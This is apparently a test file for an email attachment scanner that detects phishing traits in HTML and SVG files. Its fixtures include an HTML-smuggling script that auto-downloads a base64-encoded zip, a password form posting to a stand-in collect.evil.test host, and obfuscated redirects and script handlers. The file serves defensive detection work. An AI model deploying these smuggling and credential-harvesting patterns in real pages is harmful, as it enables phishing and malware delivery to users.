import { expect } from 'chai'
import { createQrReader } from '../../../src/app/workers/qr-reader.ts'
import { aQrCode } from '../../helpers/qr-code.ts'
import { zip } from '../helpers.ts'
import { damaged, readAttached } from './reading.ts'

const b64 = (text: string | Buffer): string => Buffer.from(text).toString('base64')
/** Words that hardly pack, so that the archive is as long as a real one. */
const filling = Array.from({ length: 600 }, (_, index) => ((index * 7_919 * index) % 100_003).toString(36)).join('')
const payload = zip([{ name: 'report.js', data: Buffer.from(`var a = "${filling}"`) }])
const smuggler = `<html><body><script>
  var d = atob("${b64(payload)}"); var u = new Uint8Array(d.length);
  for (var i = 0; i < d.length; i++) u[i] = d.charCodeAt(i);
  var a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([u])); a.download = "report.zip"; a.click()
</script></body></html>`
const login = '<form action="https://collect.evil.test/in.php" method=post><input type=email name=user><input type=password name=pw></form>'

describe('message/files: web pages', () => {
  it('takes links, visible text, forms and redirects', async () => {
    const { file, message, detail, urls } = await readAttached(
      'Statement.html',
      `<html><head><meta http-equiv="refresh" content="5; url=https://next.evil.test/"></head><body>Sign in to see the statement
       <a href="https://a.evil.test/x">here</a><img src=https://img.evil.test/p.png>${login}</body></html>`,
      {},
      'text/html',
    )
    expect(file.traits).to.include.members(['form', 'password-form', 'redirect'])
    expect(detail('password-form')).to.equal('password field pw, sent to https://collect.evil.test/in.php')
    expect(urls).to.have.members([
      'https://next.evil.test/',
      'https://a.evil.test/x',
      'https://img.evil.test/p.png',
      'https://collect.evil.test/in.php',
    ])
    expect(message.observables.urls.every(({ foundIn, inFiles }) => foundIn[0] === 'html-file' && inFiles[0] === file.sha256)).to.equal(
      true,
    )
    expect(message.attachedText[0]?.text).to.contain('Sign in to see the statement')
  })

  it('knows a password field by its name', async () => {
    const page = '<html><form action=x><input type=text placeholder="Enter password"></form></html>'
    expect((await readAttached('a.htm', page)).file.traits).to.include('password-form')
    const travel = '<html><form action=x><input name=passport-number><input name=passenger></form></html>'
    expect((await readAttached('a.htm', travel)).file.traits).to.not.include('password-form')
  })

  it('unpacks what a page smuggles in base64, in an array, in hexadecimal and in an element, and reads on in it', async () => {
    const numbers = `<html><script>var u = new Uint8Array([${[...payload].join(',')}]); location = URL.createObjectURL(new Blob([u]))</script></html>`
    const hex = `<html><script>var h = "${payload.toString('hex')}"; build(h); a.download = "x"</script></html>`
    const beside = `<html><div id=d>${b64(payload)}</div><script>var b = new Blob([atob(d.innerText)]); a.download = "x"</script></html>`
    for (const page of [smuggler, numbers, hex, beside]) {
      const { files } = await readAttached('scan.html', page)
      expect(files[0]?.traits, page.slice(0, 60)).to.include('html-smuggling')
      expect(files.map(({ name, foundIn }) => `${foundIn.join()} ${name}`)).to.deep.equal([
        'attachment scan.html',
        'smuggled scan.html/embedded-1',
        'archive scan.html/embedded-1/report.js',
      ])
    }
  })

  it('reads the page that a script writes from escapes, base64 or pieces', async () => {
    for (const script of [
      `document.write(unescape("${Array.from(login)
        .map((char) => `%${char.charCodeAt(0).toString(16)}`)
        .join('')}"))`,
      `document.body.innerHTML = atob("${b64(login)}")`,
      `document.write(decodeURIComponent(escape("${Array.from(login)
        .map((char) => `\\x${char.charCodeAt(0).toString(16).padStart(2, '0')}`)
        .join('')}")))`,
      `document.write(String.fromCharCode(${Array.from(login)
        .map((char) => char.charCodeAt(0))
        .join(', ')}))`,
    ]) {
      const { files, urls } = await readAttached('a.html', `<html><script>${script}</script></html>`)
      expect(files[0]?.traits, script.slice(0, 40)).to.include('html-smuggling')
      expect(files[1]?.traits, script.slice(0, 40)).to.include('password-form')
      expect(urls).to.include('https://collect.evil.test/in.php')
    }
  })

  it('takes addresses out of scripts: joined, escaped, encoded, turned round', async () => {
    const { urls, message } = await readAttached(
      'a.html',
      `<html><script>
        var a = "https://one.evil" + ".test/" + 'x'; // it's a comment
        var b = "\\x68\\x74\\x74\\x70\\u0073://two.evil.test/";
        var c = atob("${b64('https://three.evil.test/')}");
        var d = "/tset.live.ruof//:sptth".split("").reverse().join("");
        var e = unescape("%68%74%74%70%73%3A%2F%2Ffive.evil.test%2F");
        var f = atob(atob("${b64(b64('https://six.evil.test/'))}"));
      </script></html>`,
    )
    for (const host of ['one', 'two', 'three', 'four', 'five', 'six']) expect(urls.join(' ')).to.contain(`https://${host}.evil.test/`)
    expect(message.observables.urls.find(({ host }) => host === 'three.evil.test')?.foundIn).to.deep.equal(['script'])
  })

  it('sees the address of the recipient in the page, as it is and encoded', async () => {
    for (const held of ['value="dana@corp.example"', `data-x="${b64('dana@corp.example')}"`, 'value="dana%40corp.example"'])
      expect((await readAttached('a.html', `<html><input ${held}></html>`)).file.traits).to.include('recipient-prefilled')
  })

  it('opens files in data addresses and reads codes in pictures of the page', async () => {
    const data = `<html><a download="a.zip" href="data:application/zip;base64,${b64(payload)}">get</a></html>`
    expect((await readAttached('a.html', data)).files.map(({ name }) => name)).to.include('a.html/embedded-1/report.js')
    const code = await aQrCode('https://code.evil.test/')
    const { file, message } = await readAttached('a.html', `<html><img src="data:image/png;base64,${b64(code)}"></html>`, {
      qr: createQrReader(),
    })
    expect(file.traits).to.include('qr-code')
    expect(file.traits).to.not.include('html-smuggling')
    expect(message.observables.urls[0]).to.deep.include({ url: 'https://code.evil.test/', foundIn: ['qr'] })
  })

  it('calls a saved receipt, an export with inline pictures and a page with a counter harmless', async () => {
    const counter =
      '<html><script>document.write(unescape("%3Cscript src=\'https://stats.example/ga.js\'%3E%3C/script%3E"))</script>Receipt 12</html>'
    const exported = `<html><style>p{}</style><img src="data:image/png;base64,${b64(Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(900)]))}">Total 12.00
      <script>window.print && document.getElementById("p").addEventListener("click", function () { window.print() })</script></html>`
    const ld = '<html><script type="application/ld+json">{"@context":"https://schema.org"}</script>Order</html>'
    for (const page of [counter, exported, ld, '<html>Minutes</html>']) {
      const { traits } = (await readAttached('a.html', page)).file
      for (const trait of ['html-smuggling', 'form', 'password-form', 'recipient-prefilled']) expect(traits).to.not.include(trait)
    }
  })

  it('survives truncated and mutated pages and floods', async () => {
    for (const bytes of damaged(Buffer.from(smuggler))) await readAttached('a.html', bytes)
    for (const flood of [
      "'".repeat(300_000),
      "\\'".repeat(300_000),
      '"+"'.repeat(200_000),
      '[1,1,'.repeat(100_000),
      '`'.repeat(300_001),
      'chr(1)&'.repeat(60_000),
      '%41'.repeat(200_000),
      '/*'.repeat(200_000),
    ]) {
      const startedAt = performance.now()
      await readAttached('a.html', `<html><script>'${flood}</script></html>`)
      expect(performance.now() - startedAt, flood.slice(0, 6)).to.be.lessThan(4_000)
    }
  })
})

describe('message/files: SVG pictures', () => {
  const svg = (inside: string): string =>
    `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${inside}</svg>`

  it('sees scripts, handlers, javascript links and forms in foreignObject, with their addresses', async () => {
    for (const inside of [
      '<script><![CDATA[window.location.href = "https://go.evil.test/" + x]]></script>',
      '<rect onload="location=\'https://go.evil.test/\'"/>',
      '<a href="javascript:top.location=\'https://go.evil.test/\'"><text>Open</text></a>',
      '<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="https://go.evil.test/"><input type="password"/></form></foreignObject>',
    ]) {
      const { file, urls } = await readAttached('voice.svg', svg(inside))
      expect(file.traits, inside).to.include('svg-script')
      expect(urls, inside).to.include('https://go.evil.test/')
    }
    expect((await readAttached('a.svg', svg('<script href="https://go.evil.test/a.js"/>'))).file.traits).to.include('svg-script')
  })

  it('takes links and leaves logos and diagrams alone', async () => {
    const link = await readAttached('a.svg', svg('<a xlink:href="https://shop.example/"><text>Shop</text></a>'))
    expect(link.urls).to.deep.equal(['https://shop.example/'])
    for (const inside of [
      '<path d="M0 0h10v10z"/>',
      '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">Label</div></foreignObject>',
      '<image href="data:image/png;base64,iVBORw0KGgo="/>',
      '<style>path{fill:red}</style><animate attributeName="x"/>',
      '<a href="https://shop.example/"><text>Shop</text></a>',
    ])
      expect((await readAttached('logo.svg', svg(inside))).file.traits, inside).to.not.include('svg-script')
  })

  it('survives truncated and mutated pictures', async () => {
    for (const bytes of damaged(Buffer.from(svg('<script>a("https://x.example/")</script><foreignObject><form/></foreignObject>'))))
      await readAttached('a.svg', bytes)
  })
})
